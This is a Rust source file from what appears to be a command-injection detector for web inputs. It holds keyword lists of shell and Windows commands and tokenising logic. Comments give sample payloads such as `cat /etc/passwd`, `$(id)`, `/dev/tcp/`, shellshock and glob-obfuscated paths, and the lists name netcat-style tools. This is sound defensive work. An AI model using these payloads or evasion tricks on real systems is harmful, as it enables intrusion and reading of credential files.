//! OS command injection: the value is split the way a POSIX shell would (quotes removed,
//! backslash escapes undone, `${IFS}` as a blank, unknown `$VAR` expansions dropped, brace
//! expansion applied) into commands separated by `;`, `|`, `&`, newlines, backticks, `$(`
//! and `<(`. A command is reported when its name is a known Unix or Windows command and the
//! context makes execution plausible:
//!
//! - after a substitution (`` `id` ``, `$(id)`): any known command;
//! - after a separator (`;`, `|`, `&&`, newline): a distinctive command (`whoami`, `wget`
//!   with a URL, `/bin/sh`), or a common-word command (`cat`, `more`, `time`) only with
//!   shell-looking arguments (`-x` options, absolute paths, redirections, `$VAR`);
//! - at the start of the value: the same, so `cat /etc/passwd` fires and `cat pictures`,
//!   `Tom & Jerry`, `rock | paper`, `R&D; sales` do not.
//!
//! Also: shellshock `() {`, Windows `for … in (…) do` / `if exist|errorlevel|==`, `%COMSPEC%`,
//! `/dev/tcp/`, arithmetic `$((…))`/`$[…]`, and glob-obfuscated paths (`/???/c?t`,
//! `/etc/pa[s]swd`).

use std::{cell::OnceCell, sync::LazyLock};

use super::{
    keywords::{self, Words},
    text::{around, find_ci, needle_mask, ByteSet, WordIndex},
    Candidate,
};
use crate::detect::{
    finding::Finding,
    inputs::Source,
    rules::{self, Rule},
};

/// Commands stored per value and words kept per command (more are only scanned).
const MAX_COMMANDS: usize = 64;
const MAX_WORDS: usize = 6;
const MAX_WORD: usize = 48;

/// Commands whose name alone, in a command position, is a strong signal.
const STRONG: &[&str] = &[
    "whoami",
    "uname",
    "ifconfig",
    "ipconfig",
    "netstat",
    "nslookup",
    "traceroute",
    "tracert",
    "ncat",
    "netcat",
    "socat",
    "telnet",
    "bash",
    "zsh",
    "ksh",
    "csh",
    "tcsh",
    "sh",
    "busybox",
    "powershell",
    "pwsh",
    "certutil",
    "bitsadmin",
    "mshta",
    "rundll32",
    "regsvr32",
    "regedit",
    "wmic",
    "cscript",
    "wscript",
    "schtasks",
    "tasklist",
    "taskkill",
    "systeminfo",
    "nbtstat",
    "bcdedit",
    "bcdboot",
    "diskpart",
    "vssadmin",
    "wevtutil",
    "icacls",
    "cacls",
    "visudo",
    "useradd",
    "usermod",
    "userdel",
    "chmod",
    "chown",
    "chattr",
    "crontab",
    "iptables",
    "tcpdump",
    "nmap",
    "strace",
    "ltrace",
    "lsof",
    "xxd",
    "hexdump",
    "base64",
    "base32",
    "gunzip",
    "zcat",
    "bzcat",
    "xzcat",
    "zstdcat",
    "unxz",
    "bunzip2",
    "bsdtar",
    "printenv",
    "getent",
    "mkfifo",
    "mknod",
    "killall",
    "pkill",
    "lwp-download",
    "lwp-request",
    "tftp",
    "sftp",
    "scp",
    "rsync",
    "irb",
    "gcc",
    "g++",
    "clang",
    "c89",
    "c99",
    "awk",
    "gawk",
    "mawk",
    "nawk",
    "grep",
    "egrep",
    "fgrep",
    "xargs",
    "iwr",
    "iex",
    "irm",
    "iwmi",
    "invoke-webrequest",
    "invoke-expression",
    "invoke-restmethod",
    "invoke-wmimethod",
    "start-process",
    "new-object",
    "set-executionpolicy",
    "cscli",
    "cpulimit",
    "lastlog",
    "lastlogin",
    "htop",
    "aptitude",
    "apt-get",
    "dpkg",
    "yum",
    "zstd",
    "wsl",
    "sudo",
    "nohup",
    "ssh",
    "python2",
    "python3",
    "perl",
    "php",
    "ansible",
    "pwd",
    "zypper",
    "apk",
];

/// Commands that are also common words or identifiers: reported only with shell-looking
/// arguments (or, after a separator in a value without blanks, alone: `x;ps`).
const WEAK: &[&str] = &[
    "cat",
    "tac",
    "nl",
    "head",
    "tail",
    "more",
    "less",
    "ls",
    "dir",
    "id",
    "ps",
    "top",
    "kill",
    "env",
    "set",
    "export",
    "alias",
    "trap",
    "wget",
    "curl",
    "fetch",
    "nc",
    "ftp",
    "ping",
    "dig",
    "host",
    "whois",
    "arp",
    "route",
    "ip",
    "ss",
    "w",
    "who",
    "last",
    "finger",
    "uptime",
    "history",
    "echo",
    "printf",
    "sleep",
    "date",
    "find",
    "locate",
    "which",
    "whereis",
    "file",
    "stat",
    "touch",
    "tee",
    "cp",
    "mv",
    "rm",
    "rmdir",
    "mkdir",
    "ln",
    "dd",
    "tar",
    "zip",
    "unzip",
    "gzip",
    "bzip2",
    "xz",
    "sort",
    "uniq",
    "cut",
    "tr",
    "wc",
    "rev",
    "fold",
    "column",
    "comm",
    "diff",
    "paste",
    "join",
    "split",
    "sed",
    "python",
    "ruby",
    "node",
    "nodejs",
    "lua",
    "java",
    "make",
    "cc",
    "gdb",
    "vi",
    "vim",
    "ex",
    "ed",
    "nano",
    "emacs",
    "mount",
    "umount",
    "service",
    "systemctl",
    "shutdown",
    "reboot",
    "halt",
    "su",
    "passwd",
    "type",
    "copy",
    "move",
    "del",
    "ren",
    "ver",
    "vol",
    "reg",
    "sc",
    "net",
    "netsh",
    "start",
    "call",
    "cmd",
    "cd",
    "exec",
    "eval",
    "source",
    "bridge",
    "perf",
    "rmt",
    "flock",
    "openssl",
    "md5sum",
    "sha256sum",
    "strings",
    "od",
    "screen",
    "tmux",
    "watch",
    "wall",
    "mail",
    "chef",
    "pip",
    "npm",
    "rpm",
    "nice",
    "timeout",
    "findstr",
    "attrib",
    "xcopy",
];

/// Distinctive commands that fire even as the whole value (`whoami`); other names alone
/// (`base64`, `php`, `lastlog`) are ordinary field values.
const SOLO: &[&str] = &[
    "whoami",
    "ifconfig",
    "ipconfig",
    "uname",
    "netstat",
    "systeminfo",
    "tasklist",
    "visudo",
    "printenv",
    "htop",
    "getent",
    "nslookup",
];

/// Weak commands that are no English words or common abbreviations: at the start of a value
/// with a plain argument or two (`ls docs tmp`) they read as a command line.
const UNWORDLY: &[&str] = &[
    "ls",
    "mkdir",
    "rmdir",
    "sed",
    "systemctl",
    "md5sum",
    "sha256sum",
];

/// Windows programs, which take `/x` switches (also glued: `ipconfig/all`).
const WINDOWS: &[&[u8]] = &[
    b"ipconfig",
    b"systeminfo",
    b"tasklist",
    b"taskkill",
    b"bcdedit",
    b"bcdboot",
    b"diskpart",
    b"vssadmin",
    b"wevtutil",
    b"icacls",
    b"cacls",
    b"netstat",
    b"nbtstat",
    b"schtasks",
    b"wmic",
    b"certutil",
    b"bitsadmin",
    b"tracert",
    b"whoami",
    b"findstr",
    b"xcopy",
    b"attrib",
];

/// Downloaders, for which a URL argument is evidence.
const FETCHERS: &[&str] = &[
    "wget",
    "curl",
    "fetch",
    "lwp-download",
    "lwp-request",
    "iwr",
    "irm",
    "invoke-webrequest",
    "invoke-restmethod",
    "ftp",
    "tftp",
    "certutil",
    "bitsadmin",
    "mshta",
];

/// Words that run the command after them (`time sh`, `nohup id`, `env x=1 sh`).
const WRAPPERS: &[&str] = &[
    "time", "nohup", "strace", "ltrace", "sudo", "doas", "env", "exec", "nice", "timeout", "xargs",
    "command", "builtin", "busybox", "stdbuf", "setsid", "unbuffer", "then", "do", "!", "{",
    "call",
];

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Sep {
    Start,
    /// `;`, `|`, `||`, `&`, `&&`, newline.
    Chain,
    /// `(` or `)`: a subshell, or (far more often) a parenthesis in prose; judged like the
    /// start of the value.
    Paren,
    /// Backtick, `$(`, `<(`, `>(`.
    Subst,
}

#[derive(Debug)]
struct Command {
    sep: Sep,
    /// Byte offset in the value where the command starts.
    pos: usize,
    words: Vec<Vec<u8>>,
    /// Arguments that look like shell usage: `-x` options, absolute paths, URLs.
    shell_args: bool,
    /// Redirections, `$VAR` expansions or here-strings.
    shell_syntax: bool,
    /// An argument holding `://` (evidence for downloaders only).
    url_arg: bool,
    nargs: usize,
}

impl Command {
    fn new(sep: Sep, pos: usize) -> Self {
        Self {
            sep,
            pos,
            words: Vec::new(),
            shell_args: false,
            shell_syntax: false,
            url_arg: false,
            nargs: 0,
        }
    }
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
enum Strength {
    Weak,
    Strong,
}

pub fn check(c: &Candidate<'_>, out: &mut Vec<Finding>) {
    if !plain_and_no_command(c.decoded.as_bytes(), &c.bytes, &c.words) {
        check_ungated(c, out);
    }
}

/// [`check`] without [`plain_and_no_command`] (which must not change its verdicts).
pub(super) fn check_ungated(c: &Candidate<'_>, out: &mut Vec<Finding>) {
    let value = c.decoded;
    let b = value.as_bytes();
    if b.is_empty() || c.input.source == Source::Path {
        return;
    }
    let mut report = |rule: &'static Rule, pos: usize| {
        out.push(Finding::new(rule, c.input.location(), around(value, pos)));
    };
    if let Some(p) = shellshock(b) {
        report(&rules::CMDI_SHELLSHOCK, p);
        return;
    }
    if let Some(p) = windows_syntax(b) {
        report(&rules::CMDI_WINDOWS, p);
        return;
    }
    if let Some(p) = shell_marker(b) {
        report(&rules::CMDI_SHELL, p);
        return;
    }
    if history_only(b.trim_ascii()) {
        report(&rules::CMDI_SHELL, 0);
        return;
    }
    // Raw bodies are markup more often than shell: quotes there delimit attributes. A value
    // that opens with a quote and a separator (`';id'`) closes the string it is pasted into:
    // its quotes end and reopen that string rather than quoting the command.
    let quoting = c.input.source != Source::Body && !breaks_out_of_quotes(b);
    let commands = tokenize(b, quoting);
    let has_upper = c.bytes.upper;
    // Only needed once a command name is found, which ordinary values never hold.
    let prose_cell = OnceCell::new();
    let prose = || *prose_cell.get_or_init(|| is_prose(b));
    // Line breaks are command separators, not blanks: `127.0.0.1\nid` is a one-word value
    // followed by a command, as `127.0.0.1;id` is.
    let blank_free_prefix = |pos: usize| {
        !b[..pos.min(b.len())]
            .iter()
            .any(|x| x.is_ascii_whitespace() && !matches!(x, b'\n' | b'\r'))
    };
    for (n, cmd) in commands.iter().enumerate() {
        let Some((word, strength, assigned)) = command_name_how(cmd) else {
            continue;
        };
        let args = cmd.words.get(1..).unwrap_or_default();
        // Time-based blind probes: `;sleep 10`.
        let delay = word == b"sleep"
            && args
                .first()
                .is_some_and(|w| w.iter().all(u8::is_ascii_digit));
        let fetch = cmd.url_arg && FETCHERS.iter().any(|f| f.as_bytes() == word);
        // `alias x=cmd` defines a command; `trap 'cmd' EXIT` runs one on a signal.
        let defines = (word == b"alias" && args.iter().any(|w| w.contains(&b'=')))
            || (word == b"trap" && args.len() >= 2 && args.last().is_some_and(|w| signal(w)));
        let evidence = cmd.shell_args || cmd.shell_syntax || delay || fetch || defines;
        // Unix shells are case-sensitive (`SET` runs nothing there) and cmd.exe switches
        // start with `/`: a capitalised word with `-` options and no path is a phrase
        // ("SET 8 -MINI AS"), not a command line, when nothing else shows a shell.
        let capitalised_phrase = b
            .get(cmd.pos..)
            .unwrap_or_default()
            .iter()
            .skip_while(|x| x.is_ascii_whitespace() || matches!(x, b'(' | b'@'))
            .take_while(|x| !x.is_ascii_whitespace())
            .any(u8::is_ascii_uppercase)
            && cmd.shell_args
            && !(cmd.shell_syntax || delay || fetch || defines)
            && args
                .iter()
                .all(|a| !a.contains(&b'/') && !a.contains(&b'\\'));
        // `&sort=ex&page=2` in a URL is a parameter pair, not `ex` run after `&`.
        if assigned && strength == Strength::Weak && !evidence {
            continue;
        }
        let path_qualified = cmd.words.iter().any(|w| w.windows(4).any(|p| p == b"bin/"));
        let chained_next = commands
            .get(n + 1)
            .is_some_and(|next| next.sep != Sep::Start && command_name(next).is_some());
        let fire = match (cmd.sep, strength) {
            (Sep::Subst, _) => true,
            (Sep::Chain, Strength::Strong) => true,
            // At the start, a distinctive name followed by prose ("GCC Runtime Library",
            // "Lsof has trouble …") is a sentence, not a command line.
            (Sep::Start | Sep::Paren, _) if prose() => false,
            (Sep::Start | Sep::Paren, Strength::Strong) => {
                evidence
                    || chained_next
                    || (cmd.nargs == 0 && (solo(word) || path_qualified))
                    || (cmd.nargs > 0 && cmd.nargs <= 2 && !has_upper)
                    // `ansible-galaxy collection install x`: tool-family names are no words.
                    || (cmd.nargs > 0 && family(word).is_some() && !has_upper)
            }
            (Sep::Chain, Strength::Weak) => {
                evidence
                    || chained_next
                    || (cmd.nargs == 0 && blank_free_prefix(cmd.pos))
                    // `x;echo 7f3a`: the probe scanners plant to see their marker echoed.
                    || (word == b"echo"
                        && cmd.nargs == 1
                        && args.first().is_some_and(|a| a.iter().any(u8::is_ascii_digit))
                        && blank_free_prefix(cmd.pos))
            }
            (Sep::Start | Sep::Paren, Strength::Weak) => {
                (evidence && !capitalised_phrase)
                    || (chained_next && cmd.nargs > 0)
                    // `ls docs tmp`: a command that is no English word, with plain arguments.
                    || (UNWORDLY.iter().any(|x| x.as_bytes() == word)
                        && (1..=2).contains(&cmd.nargs)
                        && !has_upper)
            }
        };
        // `sh` and friends as a bare word in prose ("SH" for a state) need a context;
        // `/bin/ab` has one.
        let fire = fire
            && !(cmd.sep == Sep::Start
                && cmd.nargs == 0
                && word.len() <= 2
                && !evidence
                && !path_qualified);
        // Parameter names only count after a separator or with arguments (`pwd`, `perl` are
        // names; `aa-disable php-fpm` is no name).
        let fire = fire && !(c.input.is_name() && cmd.sep == Sep::Start && cmd.nargs == 0);
        if fire {
            report(&rules::CMDI_SHELL, cmd.pos);
            return;
        }
    }
    if let Some(p) = glob_path(&commands) {
        report(&rules::CMDI_GLOB, p);
    }
}

/// Whether `b` has no shell syntax beyond command separators and no command begins with a
/// command name, which no rule fires on (saves tokenising ordinary values). Without the
/// bytes of `SHELL` there is no substitution, quote, escape, expansion, redirection,
/// subshell, glob or assignment: [`tokenize`] cuts commands at `;`, `|`, `&` and line
/// breaks (unless a `;` starts a media-type parameter) into the words between blanks and
/// commas, and a command's name is its first word (an `@` before it dropped) unless that is
/// a wrapper. Shellshock, history designators and the markers need one of those bytes too,
/// except `/dev/tcp/`; the Windows syntax needs a word `for` or `if`.
/// Quotes, substitutions, redirections, globs and the other shell syntax
/// [`plain_and_no_command`] sends to the full check.
const SHELL_BYTES: &[u8] = b"`$()<>'\"\\{}=!~%?[]*";

fn plain_and_no_command(b: &[u8], s: &ByteSet, words: &Words<'_>) -> bool {
    const SHELL: u128 = needle_mask(SHELL_BYTES);
    if s.has_any_mask(SHELL) {
        return false;
    }
    const FOR: u128 = needle_mask(b"for");
    const IF: u128 = needle_mask(b"if");
    const DEV: u128 = needle_mask(b"/dev/");
    let media = |p: usize| media_param(&b[p + 1..]);
    if (s.has(b';') && memchr::memchr_iter(b';', b).any(media))
        || ((s.has_mask(FOR) || s.has_mask(IF))
            && b.split(u8::is_ascii_whitespace).any(|w| {
                [&b"for"[..], b"if", b"if/i"]
                    .iter()
                    .any(|k| w.eq_ignore_ascii_case(k))
            }))
        || (s.has_mask(DEV) && find_ci(b, b"/dev/").is_some())
    {
        return false;
    }
    !may_name_command(b, s, words) || first_words_plain(b)
}

/// Whether a command's first word may be a wrapper or a command name [`classify`] knows, from
/// the combined keyword index (asked only about values without the shell bytes, which
/// [`plain_and_no_command`] turns away first): the name, its versioned stem, its tool family
/// (`ansible-`), the Windows program before a switch or the name after a path's last `/`
/// begins a run of letters that no letter touches, so the index's scan finds it. Left to the
/// walk: a path through a `bin/` directory (any program) and a value long enough for its first
/// word to be cut at `MAX_WORD` bytes.
fn may_name_command(b: &[u8], s: &ByteSet, words: &Words<'_>) -> bool {
    const BIN: u128 = needle_mask(b"bin/");
    b.len() > MAX_WORD
        || words.any(keywords::CMD_NAMES)
        || (s.has_mask(BIN) && find_ci(b, b"bin/").is_some())
}

/// The words the index looks for on behalf of [`may_name_command`] (wrappers such as `!`
/// and `{` hold a shell byte and never reach it).
pub(super) fn trigger_words() -> Vec<&'static [u8]> {
    const SHELL: u128 = needle_mask(SHELL_BYTES);
    STRONG
        .iter()
        .chain(WEAK)
        .chain(WRAPPERS)
        .chain(&FAMILIES)
        .map(|w| w.as_bytes())
        .chain(WINDOWS.iter().copied())
        .filter(|w| !ByteSet::of(w).has_any_mask(SHELL))
        .collect()
}

/// Whether no command's first word is a wrapper or a known command (the exact part of
/// [`plain_and_no_command`]).
fn first_words_plain(b: &[u8]) -> bool {
    b.split(|&x| matches!(x, b';' | b'|' | b'&' | b'\n' | b'\r'))
        .filter_map(|cmd| {
            cmd.split(|&x| matches!(x, b' ' | b'\t' | b','))
                .find(|w| !w.is_empty())
        })
        .all(|first| {
            // As `tokenize` keeps it: lower case, at most `MAX_WORD` bytes.
            let mut buf = [0u8; MAX_WORD];
            let word = &mut buf[..first.len().min(MAX_WORD)];
            word.copy_from_slice(&first[..word.len()]);
            word.make_ascii_lowercase();
            let name = word.strip_prefix(b"@").unwrap_or(word);
            !WRAPPERS.iter().any(|x| x.as_bytes() == name) && classify(name).is_none()
        })
}

/// A leading quote followed by a command separator: `';id'`, `" | id "`.
fn breaks_out_of_quotes(b: &[u8]) -> bool {
    let t = skip_blanks(b);
    let Some((&q, rest)) = t.split_first() else {
        return false;
    };
    let rest = skip_blanks(rest);
    matches!(q, b'\'' | b'"')
        && (matches!(rest.first(), Some(b';' | b'|' | b'&' | b'\n' | b'`'))
            || rest.starts_with(b"$("))
}

/// Five or more words, most of them plain alphabetic: a sentence, in which a leading
/// "Make", "Find" or "IP" is a word rather than a command.
fn is_prose(b: &[u8]) -> bool {
    let words = split_words(b);
    let alpha = words
        .iter()
        .filter(|(_, w)| {
            let w = w
                .strip_suffix(b".")
                .or_else(|| w.strip_suffix(b","))
                .unwrap_or(w);
            !w.is_empty() && w.iter().all(u8::is_ascii_alphabetic)
        })
        .count();
    words.len() >= 5 && alpha * 10 >= words.len() * 6
}

/// `() {` at the start of the value: a bash function definition (CVE-2014-6271).
fn shellshock(b: &[u8]) -> Option<usize> {
    let start = b.iter().position(|x| !x.is_ascii_whitespace())?;
    let rest = &b[start..];
    let rest = rest.strip_prefix(b"(")?;
    let rest = skip_blanks(rest).strip_prefix(b")")?;
    skip_blanks(rest).starts_with(b"{").then_some(start)
}

fn skip_blanks(b: &[u8]) -> &[u8] {
    let n = b.iter().take_while(|x| **x == b' ' || **x == b'\t').count();
    &b[n..]
}

/// Markers that only shell payloads contain.
fn shell_marker(b: &[u8]) -> Option<usize> {
    if !b
        .iter()
        .any(|&x| matches!(x, b'$' | b'%' | b'/' | b'<' | b'>' | b'~'))
    {
        return None;
    }
    for m in [
        &b"${ifs"[..],
        b"$ifs",
        b"/dev/tcp/",
        b"/dev/udp/",
        b"%comspec%",
        b"$((",
        b"<<<",
    ] {
        if let Some(p) = find_ci(b, m) {
            return Some(p);
        }
    }
    // `${x#pat}`, `${PATH%/*}`, `${`id`}`: parameter expansion operators.
    let mut from = 0;
    while let Some(p) = super::text::find_ci_from(b, b"${", from) {
        from = p + 2;
        let body = &b[p + 2..];
        let name = body
            .iter()
            .take_while(|x| x.is_ascii_alphanumeric() || **x == b'_')
            .count();
        if matches!(body.get(name), Some(b'#' | b'%' | b'/' | b'`')) || body.first() == Some(&b'`')
        {
            return Some(p);
        }
        // `${x:-id}`, `${x:=…}`, `${PATH:0:1}`: default-value and substring operators.
        if body.get(name) == Some(&b':') {
            let op = &body[name + 1..];
            let digits = op.iter().take(8).take_while(|x| x.is_ascii_digit()).count();
            if matches!(op.first(), Some(b'-' | b'=' | b'+' | b'?'))
                || (digits > 0 && op.get(digits) == Some(&b':'))
            {
                return Some(p);
            }
        }
    }
    // `$[2+2]` arithmetic and `~+` / `~-1` directory-stack words as the whole value.
    if let Some(p) = find_ci(b, b"$[") {
        if b[p..].contains(&b']') {
            return Some(p);
        }
    }
    let t = b.trim_ascii();
    if t.len() >= 2
        && t[0] == b'~'
        && (t[1] == b'+' || t[1] == b'-')
        && t[2..].iter().all(u8::is_ascii_digit)
    {
        return Some(0);
    }
    None
}

/// A value made only of history designators (`!-2`, `!12`, `!!`, `!$`), one of them
/// relative or numbered: re-running earlier commands.
fn history_only(t: &[u8]) -> bool {
    if t.first() != Some(&b'!') || t.len() < 3 {
        return false;
    }
    let mut numbered = false;
    let mut i = 0;
    while i < t.len() {
        if t[i] != b'!' {
            return false;
        }
        i += 1;
        match t.get(i) {
            Some(b'!' | b'$' | b'*') => i += 1,
            Some(b'-') | Some(b'0'..=b'9') => {
                i += usize::from(t[i] == b'-');
                let n = t[i..].iter().take_while(|x| x.is_ascii_digit()).count();
                if n == 0 {
                    return false;
                }
                numbered = true;
                i += n;
            }
            _ => return false,
        }
    }
    numbered
}

/// `for /f %a in (…) do …` and `if exist|not|errorlevel|/i …` / `if a==b cmd` (cmd.exe).
fn windows_syntax(b: &[u8]) -> Option<usize> {
    // Every rule here starts at a `for` or `if` word.
    if find_ci(b, b"for").is_none() && find_ci(b, b"if").is_none() {
        return None;
    }
    let lower = b.to_ascii_lowercase();
    let words: Vec<(usize, &[u8])> = split_words(&lower);
    for (i, &(pos, w)) in words.iter().enumerate() {
        let starts_command = i == 0
            || matches!(words[i - 1].1.last(), Some(b'&' | b'|' | b';' | b'('))
            || words[i - 1].1 == b"&";
        if !starts_command {
            continue;
        }
        let rest = &words[i + 1..];
        if w == b"for" {
            let var = rest.iter().take(6).position(|(_, x)| x.starts_with(b"%"));
            let in_paren = rest
                .iter()
                .position(|(_, x)| *x == b"in" || x.starts_with(b"in("));
            if let (Some(v), Some(k)) = (var, in_paren) {
                let after = &lower[rest[k].0..];
                if v < k && after.contains(&b'(') && has_do(after) {
                    return Some(pos);
                }
            }
        }
        // `if/i a==b x`: the switch glued to the keyword.
        if w == b"if/i" && !rest.is_empty() {
            return Some(pos);
        }
        if w == b"if" {
            let Some(&(_, next)) = rest.first() else {
                continue;
            };
            // `if not exist x`, `if /i a==b`: look past `not` / `/i` for the keyword.
            let key = match next {
                b"not" | b"/i" => rest.get(1).map(|(_, w)| *w),
                _ => Some(next),
            };
            if next == b"/i"
                || matches!(
                    key,
                    Some(b"exist" | b"errorlevel" | b"cmdextversion" | b"defined")
                ) && rest.len() >= 3
                    && !rest[..3].iter().any(|(_, w)| w.ends_with(b","))
            {
                return Some(pos);
            }
            let cmp = rest.iter().take(4).position(|(_, x)| {
                x.windows(2).any(|p| p == b"==")
                    || matches!(*x, b"equ" | b"neq" | b"lss" | b"leq" | b"gtr" | b"geq")
            });
            if let Some(k) = cmp {
                // The comparison must be complete and followed by a command.
                let op = rest[k].1;
                let needed = if op.contains(&b'=') && !op.ends_with(b"==") {
                    1
                } else {
                    2
                };
                // A batch argument (`%1`, `"%~f0"`) as an operand is script syntax by itself;
                // `n%2` (a modulo) is not one.
                let batch_arg = rest[..=k].iter().any(|(_, x)| batch_arg(x));
                if rest.len() > k + needed || batch_arg {
                    return Some(pos);
                }
            }
        }
    }
    None
}

/// `%1` / `%~f0` not glued to a preceding name or number.
fn batch_arg(w: &[u8]) -> bool {
    (0..w.len()).any(|i| {
        w[i] == b'%'
            && w.get(i + 1)
                .is_some_and(|c| c.is_ascii_digit() || *c == b'~')
            && (i == 0 || !w[i - 1].is_ascii_alphanumeric())
    })
}

fn has_do(after: &[u8]) -> bool {
    let Some(close) = after.iter().position(|&x| x == b')') else {
        return false;
    };
    let t = skip_blanks(&after[close + 1..]);
    t.starts_with(b"do") && t.get(2).is_none_or(|x| !x.is_ascii_alphanumeric())
}

fn split_words(b: &[u8]) -> Vec<(usize, &[u8])> {
    let mut out = Vec::new();
    let mut i = 0;
    while i < b.len() && out.len() < 256 {
        while i < b.len() && b[i].is_ascii_whitespace() {
            i += 1;
        }
        let start = i;
        while i < b.len() && !b[i].is_ascii_whitespace() {
            i += 1;
        }
        if i > start {
            out.push((start, &b[start..i]));
        }
    }
    out
}

/// Splits `b` into commands as described in the module docs.
fn tokenize(b: &[u8], quoting: bool) -> Vec<Command> {
    // An unbalanced quote kind does not quote at all (apostrophes in prose, `'TiMe sh`).
    let singles = quoting && b.iter().filter(|&&x| x == b'\'').count() % 2 == 0;
    let doubles = quoting && b.iter().filter(|&&x| x == b'"').count() % 2 == 0;
    let mut cmds: Vec<Command> = Vec::new();
    let mut cur = Command::new(Sep::Start, 0);
    let mut word: Vec<u8> = Vec::new();
    let mut in_word = false;
    let mut quote: Option<u8> = None;
    let mut backtick_open = false;
    let mut i = 0;

    macro_rules! end_word {
        () => {
            if in_word {
                push_word(&mut cur, std::mem::take(&mut word));
                in_word = false;
            }
        };
    }
    macro_rules! end_cmd {
        ($sep:expr, $next:expr) => {{
            end_word!();
            let done = std::mem::replace(&mut cur, Command::new($sep, $next));
            if !done.words.is_empty() && cmds.len() < MAX_COMMANDS {
                cmds.push(done);
            }
        }};
    }

    while i < b.len() {
        let x = b[i];
        if let Some(q) = quote {
            if x == q {
                quote = None;
            } else if q == b'"' && x == b'\\' && i + 1 < b.len() {
                i += 1;
                word.push(b[i].to_ascii_lowercase());
            } else {
                word.push(x.to_ascii_lowercase());
            }
            i += 1;
            continue;
        }
        match x {
            b'\'' if singles => {
                quote = Some(x);
                in_word = true;
            }
            b'"' if doubles => {
                quote = Some(x);
                in_word = true;
            }
            b'\'' | b'"' => in_word = true,
            b'\\' => {
                // `\ls`: escaping a command name to skip aliases (and naive filters).
                if !in_word && cur.words.is_empty() {
                    cur.shell_syntax = true;
                }
                in_word = true;
                if let Some(&n) = b.get(i + 1) {
                    if n != b'\n' {
                        word.push(n.to_ascii_lowercase());
                    }
                    i += 1;
                }
            }
            b' ' | b'\t' | b',' if !in_braces(&word) || x != b',' => end_word!(),
            // `data:text/plain;base64,…`, `text/html;charset=utf-8`: media-type
            // parameters, not a command separator.
            b';' if in_word && media_param(&b[i + 1..]) => {
                word.push(b';');
            }
            b';' | b'\n' | b'\r' | b'|' | b'&' => {
                end_cmd!(Sep::Chain, i + 1);
            }
            b'`' => {
                let run = b[i..].iter().take_while(|&&x| x == b'`').count();
                // Markdown: fences (```) and inline code after a blank are not substitution.
                let glued = i > 0 && !b[i - 1].is_ascii_whitespace() && b[i - 1] != b'(';
                let sep = if run == 1 && (backtick_open || glued) {
                    backtick_open = !backtick_open;
                    if backtick_open {
                        Sep::Subst
                    } else {
                        Sep::Chain
                    }
                } else {
                    Sep::Chain
                };
                end_cmd!(sep, i + run);
                i += run;
                continue;
            }
            b'$' => {
                let rest = &b[i + 1..];
                if rest.first() == Some(&b'(') {
                    end_cmd!(Sep::Subst, i + 2);
                    i += 2;
                    continue;
                }
                let (name, used) = var_name(rest);
                i += 1 + used;
                if name.eq_ignore_ascii_case(b"ifs") {
                    end_word!();
                    cur.shell_syntax = true;
                } else if name.eq_ignore_ascii_case(b"shell")
                    || name.eq_ignore_ascii_case(b"bash")
                    || name == b"0"
                {
                    word.extend_from_slice(b"sh");
                    in_word = true;
                } else if !name.is_empty() && !name[0].is_ascii_digit() {
                    cur.shell_syntax = true;
                } else if name.is_empty() {
                    word.push(b'$');
                    in_word = true;
                }
                continue;
            }
            // Arrows (`->`, `=>`) in prose are no redirections.
            b'>' if i > 0 && matches!(b[i - 1], b'-' | b'=') => {}
            b'<' | b'>' => {
                if b.get(i + 1) == Some(&b'(') {
                    end_cmd!(Sep::Subst, i + 2);
                    i += 2;
                    continue;
                }
                end_word!();
                cur.shell_syntax = true;
            }
            b'(' | b')' if word.is_empty() || x == b')' => {
                // `&&(sh)`: a subshell right after a separator keeps that separator.
                let sep = if x == b'(' && !in_word && cur.words.is_empty() && cur.sep == Sep::Chain
                {
                    Sep::Chain
                } else {
                    Sep::Paren
                };
                end_cmd!(sep, i + 1);
            }
            _ => {
                if word.len() < MAX_WORD {
                    word.push(x.to_ascii_lowercase());
                }
                in_word = true;
            }
        }
        i += 1;
    }
    if in_word {
        push_word(&mut cur, word);
    }
    if !cur.words.is_empty() && cmds.len() < MAX_COMMANDS {
        cmds.push(cur);
    }
    cmds
}

fn media_param(rest: &[u8]) -> bool {
    use super::text::starts_with_ci;
    starts_with_ci(rest, b"base64,") || starts_with_ci(rest, b"charset=")
}

/// Inside an unclosed `{` of a brace expansion (`{a,b}` keeps its commas).
fn in_braces(word: &[u8]) -> bool {
    let open = word.iter().rposition(|&x| x == b'{');
    let close = word.iter().rposition(|&x| x == b'}');
    match (open, close) {
        (Some(o), Some(c)) => o > c,
        (Some(_), None) => true,
        _ => false,
    }
}

/// The variable name after `$` (`IFS`, `{IFS}`, `1`, `@`) and the bytes it used.
fn var_name(rest: &[u8]) -> (&[u8], usize) {
    match rest.first() {
        Some(b'{') => {
            let Some(end) = rest.iter().take(64).position(|&x| x == b'}') else {
                return (&[], 0);
            };
            (&rest[1..end], end + 1)
        }
        Some(x) if x.is_ascii_digit() || matches!(x, b'@' | b'*' | b'#' | b'?' | b'!' | b'$') => {
            (&rest[..1], 1)
        }
        Some(x) if x.is_ascii_alphabetic() || *x == b'_' => {
            let n = rest
                .iter()
                .take_while(|x| x.is_ascii_alphanumeric() || **x == b'_')
                .count();
            (&rest[..n], n)
        }
        _ => (&[], 0),
    }
}

/// Adds a finished word (after brace expansion) to the command and notes shell-looking
/// arguments.
fn push_word(cmd: &mut Command, word: Vec<u8>) {
    let braces = word.contains(&b'{') && word.contains(&b',') && word.contains(&b'}');
    // Brace expansion producing a command name is shell-only syntax: `{cat,/etc/hosts}`.
    if braces && cmd.words.is_empty() {
        cmd.shell_syntax = true;
    }
    if word.contains(&b'{') && word.contains(&b'}') {
        for w in brace_expand(word) {
            push_expanded(cmd, w);
        }
    } else {
        // Nothing to expand (what `brace_expand` would return), without its one-word `Vec`.
        push_expanded(cmd, word);
    }
}

/// Adds one word after brace expansion.
fn push_expanded(cmd: &mut Command, w: Vec<u8>) {
    if !cmd.words.is_empty() {
        cmd.nargs += 1;
        let shellish =
            (w.len() >= 2 && w[0] == b'-' && (w[1].is_ascii_alphabetic() || w[1] == b'-'))
                || (w.len() >= 2 && w[0] == b'/' && w[1] != b'/')
                || w.starts_with(b"~/")
                || w.starts_with(b"c:")
                || w.contains(&b'%');
        cmd.shell_args |= shellish;
        cmd.url_arg |= w.windows(3).any(|p| p == b"://");
    }
    if cmd.words.len() < MAX_WORDS {
        cmd.words.push(w);
    }
}

/// `pre{a,b}post` → `preapost`, `prebpost` (one level, empty results dropped).
